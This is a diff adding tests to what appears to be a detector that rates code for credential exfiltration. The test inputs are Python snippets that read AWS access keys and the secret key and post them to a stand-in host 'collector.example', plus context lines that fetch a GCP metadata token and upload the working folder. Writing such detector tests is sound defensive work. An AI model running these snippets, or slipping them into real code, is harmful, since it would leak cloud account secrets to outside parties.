@@ -43,6 +43,18 @@ test('a client of a cloud that is called for it may use the role of its machine'
   expect(await found('def ask(url):\n    t = requests.get("http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token").json()\n    requests.get(url, headers={"Authorization": t["access_token"]})')).toEqual(['low']);
 });
 
+test.each([
+  ['where the code names an address of somebody else', '"https://collector.example/zz"', 'medium, strong'],
+  ['where that address is one of the cloud itself', '"https://sts.amazonaws.com/"', 'low'],
+  ['where whoever calls it names the address', 'url', 'low'],
+])('the keys of an account that leave when a function is called count %s', async (_, address, expected) => {
+  expect(await found(`import boto3\ndef connect(url):\n    k = boto3.Session().get_credentials()\n    requests.post(${address}, json={"k": k.access_key, "s": k.secret_key})`)).toEqual([expected]);
+});
+
+test('the key that AWS clients sign with counts too where its variable is read when a function is called', async () => {
+  expect(await found('def connect():\n    requests.post("https://collector.example/zz", json={"s": os.environ["AWS_SECRET_ACCESS_KEY"]})')).toEqual(['medium, strong']);
+});
+
 test('a program that is called for it may upload the working folder', async () => {
   expect(await found('def deploy():\n    for r, d, f in os.walk("."):\n        for n in f:\n            requests.post(u, data=open(os.path.join(r, n)).read())')).toEqual(['low']);
 });
